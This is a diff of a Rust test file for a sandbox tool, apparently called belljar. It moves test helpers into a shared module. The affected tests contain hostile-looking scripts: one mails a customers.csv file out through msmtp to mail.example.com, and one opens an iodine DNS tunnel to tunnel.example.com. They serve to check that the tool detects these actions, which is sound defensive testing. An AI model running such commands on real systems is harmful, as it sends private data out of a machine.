@@ -12,46 +12,8 @@ use std::os::unix::fs::{PermissionsExt, symlink};
 use std::path::Path;
 use std::process::Command;
 
-use common::{Lab, Privilege, Recorded};
+use common::{Lab, Privilege, need};
 use serde_json::Value;
-
-/// Whether programs are there; the test fails where one is not.
-fn need(pairs: &[(&str, &str)]) {
-    for (program, package) in pairs {
-        let path = format!("command -v {program} || command -v /usr/sbin/{program}");
-        let found = Command::new("sh").args(["-c", &path]).output().expect("sh runs");
-        assert!(found.status.success(), "`{program}` is missing: apt-get install {package}");
-    }
-}
-
-fn record(lab: &Lab, options: &[&str], script: &str) -> Recorded {
-    let options = [&["--seed", "4711", "--timeout", "4m"], options].concat();
-    let recorded = lab.record(&options, &["sh", "-c", script]);
-    assert!(recorded.report.is_some(), "no report: {}", recorded.stderr);
-    recorded
-}
-
-fn screen(recorded: &Recorded) -> String {
-    let cast = fs::read_to_string(recorded.bundle.join("terminal.cast")).expect("a cast");
-    cast.lines()
-        .skip(1)
-        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
-        .filter_map(|event| event[2].as_str().map(str::to_owned))
-        .collect::<String>()
-        .replace('\r', "")
-}
-
-/// What must be seen: on the screen, and among the events, by filter.
-fn expect(lab: &Lab, recorded: &Recorded, lines: &[&str], filters: &[&str]) {
-    let shown = screen(recorded);
-    for line in lines {
-        assert!(shown.contains(line), "{line:?} ({:?}):\n{shown}\n{}", lab.privilege(), recorded.stderr);
-    }
-    for filter in filters {
-        let found = lab.events(&recorded.bundle, filter);
-        assert!(!found.is_empty(), "nothing matches `{filter}` ({:?}); screen:\n{shown}", lab.privilege());
-    }
-}
 
 /// The profile that ships with belljar, and more.
 fn profile(lab: &Lab, more: &str) {
@@ -80,15 +42,12 @@ wait()
 </script>'''
 "#,
     );
-    let recorded = record(
-        &lab,
-        &["--profile", "own.toml"],
+    let recorded = lab.script(&["--profile", "own.toml"],
         "chromium --headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking \
          --disable-component-update --disable-sync --disable-dev-shm-usage --user-data-dir=/tmp/browser \
          --virtual-time-budget=5000 --dump-dom 'https://page.example.com/hello?who=anna' 2>/dev/null; echo \"chromium $?\"",
     );
-    expect(
-        &lab,
+    lab.expect(
         &recorded,
         &["<title>has spoken</title>", "chromium 0"],
         &[
@@ -155,8 +114,7 @@ status = 401
 headers = { "www-authenticate" = 'Digest realm="x", nonce="abc", qop="auth", algorithm=MD5' }
 "#,
         );
-        let recorded = record(
-            &lab,
+        let recorded = lab.script(
             &["--profile", "own.toml"],
             r#"
 { printf 'Subject: hi\r\n\r\n'; cat ~/Documents/customers.csv; } | msmtp --host=mail.example.com --port=587 --tls=on --tls-starttls=on \
@@ -172,8 +130,7 @@ curl -sS -H 'Transfer-Encoding: chunked' -H 'Expect: 100-continue' --http1.1 htt
 echo | openssl s_client -connect sig.example.com:443 -servername sig.example.com -sigalgs rsa_pss_rsae_sha256 -verify_return_error 2>&1 | grep -c 'Peer signature type: RSA-PSS'
 "#,
         );
-        expect(
-            &lab,
+        lab.expect(
             &recorded,
             &[
                 "msmtp 0",
@@ -223,8 +180,8 @@ fn a_tunnel_through_names_is_seen() {
         // As the jail's root, which it insists on.
         let script = "cat /home/anna/Documents/customers.csv >/dev/null; \
                       LD_PRELOAD=$PWD/tun timeout 20 /usr/sbin/iodine -f -P pw tunnel.example.com; echo \"iodine $?\"";
-        let recorded = record(&lab, &["--user", "root"], script);
-        expect(&lab, &recorded, &["iodine 1", "No suitable DNS query type found"], &[]);
+        let recorded = lab.script(&["--user", "root"], script);
+        lab.expect(&recorded, &["iodine 1", "No suitable DNS query type found"], &[]);
         let asked = lab.events(&recorded.bundle, "op:dns-query payload~.tunnel.example.com proc:iodine");
         for kind in ["NULL", "TXT", "SRV", "MX", "CNAME", "A", "TYPE65399"] {
             let of_kind =
@@ -330,8 +287,8 @@ fn systems_of_every_layout_trust_the_authority() {
                  2>&1 | grep -q 'Verify return code: 0' && echo 'trusts {path}'\n"
             );
         }
-        let recorded = record(&lab, &["--rootfs", root.to_str().expect("text"), "--workdir", "/"], &script);
-        let shown = screen(&recorded);
+        let recorded = lab.script(&["--rootfs", root.to_str().expect("text"), "--workdir", "/"], &script);
+        let shown = recorded.screen();
         for store in stores {
             let path = store.split_once(' ').expect("two words").1;
             assert!(shown.contains(&format!("trusts {path}\n")), "{name}: {path}\n{shown}\n{}", recorded.stderr);
